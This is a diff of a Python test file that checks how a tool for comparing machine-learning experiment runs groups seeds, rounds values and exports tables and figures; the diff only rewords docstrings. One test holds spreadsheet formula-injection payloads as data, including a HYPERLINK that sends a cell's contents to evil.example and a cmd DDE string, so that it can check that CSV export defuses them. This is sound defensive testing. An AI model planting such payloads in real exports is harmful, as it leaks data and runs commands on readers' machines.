@@ -39,7 +39,7 @@ def made(home: Path, accuracies: list[float], kind: str = "central", **config: A
 
 
 def test_the_side_of_a_cell_makes_a_difference_and_the_name_of_an_experiments_cell_none() -> None:
-    """Before, runs whose feature maps were cut otherwise were averaged as seeds of one."""
+    """Runs whose feature maps are cut otherwise are not averaged as seeds of one."""
     assert differing([{"cell": 1}, {"cell": 4}]) == ["cell"]
     assert differing([{"cell": "psl-s0-1f0c"}, {"cell": "psl-s1-9a2b"}]) == []
 
@@ -71,7 +71,7 @@ def test_runs_that_differ_in_seed_and_place_alone_are_one_group(tmp_path: Path) 
 
 
 def test_runs_of_several_versions_are_noted(tmp_path: Path) -> None:
-    """They were averaged without a word."""
+    """They are not averaged without a word."""
     runs = [made(tmp_path, [0.5], seed=seed) for seed in range(4)]
     for run, version in zip(runs, ("0.1.0", "0.2.0", "0.2.0"), strict=False):
         versions = {"flwr-splitmix": version, "torch": "2.4.0", "flwr": version}
@@ -93,7 +93,7 @@ def test_runs_of_several_versions_are_noted(tmp_path: Path) -> None:
 def test_an_epsilon_is_not_shown_below_its_bound(
     epsilons: list[float], shown: str, tmp_path: Path
 ) -> None:
-    """One of 0.0042 was 0.00, and one of 204.553 was 204.55."""
+    """One of 0.0042 is not 0.00, and one of 204.553 not 204.55."""
     runs = [made(tmp_path, [0.5], seed=seed) for seed in range(len(epsilons))]
     for run, epsilon in zip(runs, epsilons, strict=True):
         run.write_summary({**(run.summary or {}), "epsilon": epsilon})
@@ -159,7 +159,7 @@ def test_every_format_has_the_figures_of_the_runs(toy_home: Path) -> None:
 
 
 def test_no_two_columns_of_a_csv_have_one_name(tmp_path: Path) -> None:
-    """A key that differs had the name of the column beside it, which readers then lost."""
+    """Readers would lose a key that differs if it had the name of the column beside it."""
     keys = ("evaluation", "runs", "accuracy_kind", "top1")
     runs = [made(tmp_path, [0.5], **dict.fromkeys(keys, value)) for value in ("one", "two")]
     table = tabulate(compare(runs))
@@ -171,7 +171,7 @@ def test_no_two_columns_of_a_csv_have_one_name(tmp_path: Path) -> None:
 
 
 def test_a_spreadsheet_executes_no_cell_of_a_csv(tmp_path: Path) -> None:
-    """A stranger's run could name a data set so that opening the table sent figures away."""
+    """A stranger's run could name a data set so that opening the table sends figures away."""
     formulas = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0", "@SUM(1)", "\t=1"]
     names = [*formulas, "-0.5", "+1e3", "-inf", "fashion"]
     runs = [made(tmp_path, [0.5], "=kind", **{"=key": name}) for name in names]
@@ -194,7 +194,7 @@ def test_latex_has_no_character_with_a_meaning_of_its_own(tmp_path: Path) -> Non
 
 
 def test_runs_of_other_clients_or_strategies_are_no_seeds_of_one(tmp_path: Path) -> None:
-    """Two runs of 2 and of 4 clients were averaged, and runs of Python of any strategies."""
+    """Runs of 2 and of 4 clients are not averaged, nor scripts' runs of several strategies."""
     of_python = Run.create({"seed": 3}, name="mine", home=tmp_path)
     runs = [*(made(tmp_path, [0.5], seed=seed) for seed in range(3)), of_python]
     facts = [("PSL", 2), ("PSL", 4), ("PSL", 2), ("SFL", 2)]
@@ -219,7 +219,7 @@ def test_a_sample_of_the_clients_may_be_of_another_size(tmp_path: Path) -> None:
 @pytest.mark.filterwarnings("error")
 @pytest.mark.parametrize("name", ["_Mine", r"$\frac{1$", "costs 3 $ or 5 $"])
 def test_a_name_is_drawn_whatever_it_is(name: str, tmp_path: Path) -> None:
-    """Matplotlib took "_Mine" for one to hide, and what is between dollars for a formula."""
+    """Matplotlib takes "_Mine" for one to hide, and what is between dollars for a formula."""
     runs = [made(tmp_path, [0.5], strategy=name), made(tmp_path, [0.5])]
     figure = draw_curves(compare(runs), ["rounds"])
     figure.draw_without_rendering()
